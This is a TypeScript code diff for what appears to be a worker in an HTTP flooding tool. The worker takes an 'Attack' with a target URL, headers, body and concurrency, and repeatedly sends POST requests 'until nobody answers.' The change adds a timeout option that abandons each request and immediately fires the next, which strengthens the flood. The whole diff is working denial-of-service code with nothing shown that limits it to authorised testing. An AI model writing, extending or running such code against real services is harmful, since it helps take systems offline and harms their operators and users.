@@ -6,22 +6,25 @@ export interface Attack {
   readonly body: string;
   /** How many requests are under way at a time. */
   readonly count: number;
+  /** Milliseconds after which a request is broken off and the next one begins; absent where answers are waited for. */
+  readonly breakOff?: number | undefined;
 }
 
 const [attackOn]: Attack[] = await once(process, 'message');
 if (attackOn === undefined) throw new Error('Nothing to attack.');
-const { url, headers, body, count } = attackOn;
+const { url, headers, body, count, breakOff } = attackOn;
 const statuses = new Set<number>();
 
 /** Sends the body again and again, until nobody answers. */
 async function attack(): Promise<void> {
   for (;;) {
+    const signal = breakOff === undefined ? null : AbortSignal.timeout(breakOff);
     try {
-      const response = await fetch(url, { method: 'POST', headers, body });
+      const response = await fetch(url, { method: 'POST', headers, body, signal });
       await response.arrayBuffer();
       statuses.add(response.status);
     } catch {
-      return;
+      if (signal?.aborted !== true) return;
     }
   }
 }
